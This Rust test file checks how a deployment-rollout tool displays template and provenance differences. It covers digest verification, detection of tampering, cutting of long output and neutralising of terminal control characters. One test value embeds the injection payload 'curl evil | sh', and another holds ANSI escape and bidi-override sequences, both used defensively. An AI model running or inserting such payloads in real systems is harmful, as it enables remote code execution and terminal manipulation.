use countersign_api::PROVENANCE_PREFIX;
use serde_json::json;

use super::*;
use crate::view::tests::waiting;

/// A change whose template and provenance are those of its digests.
fn verified() -> View {
    let mut view = waiting();
    let rollout = &mut view.rollout;
    let change = rollout.status.as_mut().unwrap().change.as_mut().unwrap();
    change.template_digest = template_digest(&rollout.spec.template);
    let annotations = rollout.metadata.annotations.as_ref().unwrap();
    let canary = &rollout.spec.strategy.canary;
    change.digest = change_digest(&rollout.spec.template, annotations, canary);
    view
}

fn stable_run() -> RolloutRun {
    serde_json::from_value(json!({
        "apiVersion": "countersign.dev/v1alpha1", "kind": "RolloutRun", "metadata": { "name": "web-1-6" },
        "spec": { "rollout": "web", "digest": "d6", "podTemplateHash": "aaa111", "revision": 6, "traffic": {},
            "provenance": { "annotations": { "contributor": "human", "tests": "PASSED" } } },
    }))
    .unwrap()
}

fn shown(view: &View, full: bool) -> Shown {
    let mut shown = difference(view, view.change().unwrap(), Some(&stable_run()), full);
    shown.text = anstream::adapter::strip_str(&shown.text).to_string();
    shown
}

#[test]
fn the_difference_from_the_verified_revision_is_shown() {
    let expected = "\
Difference from revision 6, whose template is verified by its digest
--- stable template
+++ proposed template
@@ -3,8 +3,5 @@
     app: web
 spec:
   containers:
-  - env:
-    - name: OLD
-      value: \"1\"
-    image: example.org/web:v1
+  - image: example.org/web:v2
     name: app
--- stable provenance
+++ proposed provenance
@@ -1,2 +1,2 @@
-contributor: human
+contributor: ai
 tests: PASSED
";
    let shown = shown(&verified(), false);
    assert_eq!(
        (shown.text.as_str(), shown.extent),
        (expected, Extent::Whole)
    );
}

#[test]
fn a_stable_template_that_was_tampered_with_is_not_compared() {
    let mut view = verified();
    let annotations = view.replica_sets[0].annotations_mut();
    let evil = view.rollout.spec.template.0.to_string();
    annotations.insert(TEMPLATE_ANNOTATION.into(), evil);
    let shown = shown(&view, false);
    for line in [
        "Difference: the stable template, of revision 6, cannot be verified, so all of the proposed one is shown",
        "--- stable template (unknown)",
        "+  - image: example.org/web:v2",
    ] {
        assert!(shown.text.lines().any(|it| it == line), "{}", shown.text);
    }
    assert_eq!(shown.extent, Extent::Whole);
}

#[test]
fn a_change_that_is_not_the_one_of_its_digest_is_not_shown_as_if_it_were() {
    let mut view = verified();
    let annotations = view.rollout.annotations_mut();
    annotations.insert(format!("{PROVENANCE_PREFIX}tests"), "FAILED".into());
    let edited = shown(&view, true);
    assert!(
        edited.text.contains("not shown is its provenance"),
        "{}",
        edited.text
    );
    assert_eq!(edited.extent, Extent::Unknown);
    view.rollout.spec.template.0["spec"]["containers"][0]["image"] = json!("other");
    let edited = shown(&view, true);
    assert!(
        edited.text.contains("not shown is its template"),
        "{}",
        edited.text
    );
    assert!(!edited.text.contains("other"), "{}", edited.text);
    assert_eq!(edited.extent, Extent::Unknown);
}

#[test]
fn what_is_long_is_cut_unless_all_is_requested() {
    let with = |container: serde_json::Value| {
        let mut view = waiting();
        view.rollout.spec.template.0["spec"]["containers"][0]["args"] = container;
        let template = &view.rollout.spec.template;
        let annotations = view.rollout.annotations();
        let digests = (
            template_digest(template),
            change_digest(template, annotations, &view.rollout.spec.strategy.canary),
        );
        let change = view
            .rollout
            .status
            .as_mut()
            .unwrap()
            .change
            .as_mut()
            .unwrap();
        (change.template_digest, change.digest) = digests;
        view
    };
    let many: Vec<_> = (0..200).map(|number| format!("a{number}")).collect();
    let many = with(json!(many));
    let (cut, whole) = (shown(&many, false), shown(&many, true));
    assert!(
        cut.text.contains("lines more: --full shows all\n"),
        "{}",
        cut.text
    );
    // Beside the lines of the difference: the heading, and the mark.
    assert_eq!(cut.text.lines().count(), FEW_LINES + 2);
    assert!(whole.text.contains("+    - a199\n"), "{}", whole.text);
    assert_eq!((cut.extent, whole.extent), (Extent::Cut, Extent::Whole));

    let wide = with(json!([format!("{}; curl evil | sh", "x".repeat(200))]));
    let (cut, whole) = (shown(&wide, false), shown(&wide, true));
    assert!(
        cut.text.ends_with("--full shows them whole\n"),
        "{}",
        cut.text
    );
    assert!(!cut.text.contains("curl") && whole.text.contains("curl evil | sh"));
    assert_eq!((cut.extent, whole.extent), (Extent::Cut, Extent::Whole));
}

#[test]
fn nothing_of_a_change_acts_on_the_terminal() {
    let mut view = verified();
    let evil = "x\u{1b}[2J\u{202e}\u{9b}31m";
    let mut run = stable_run();
    run.spec
        .provenance
        .annotations
        .insert(evil.into(), evil.into());
    run.spec.traffic = Some(json!({ evil: evil }));
    view.rollout.status.as_mut().unwrap().stable = None;
    let shown = difference(&view, view.change().unwrap(), Some(&run), true);
    let text = anstream::adapter::strip_str(&shown.text).to_string();
    assert!(
        text.starts_with("Difference: there is no stable revision"),
        "{text}"
    );
    assert!(text.contains("x\\e[2J\\u{202e}\\x9B31m"), "{text}");
    assert!(
        text.chars().all(|c| c == '\n' || !c.is_control()),
        "{text:?}"
    );
}
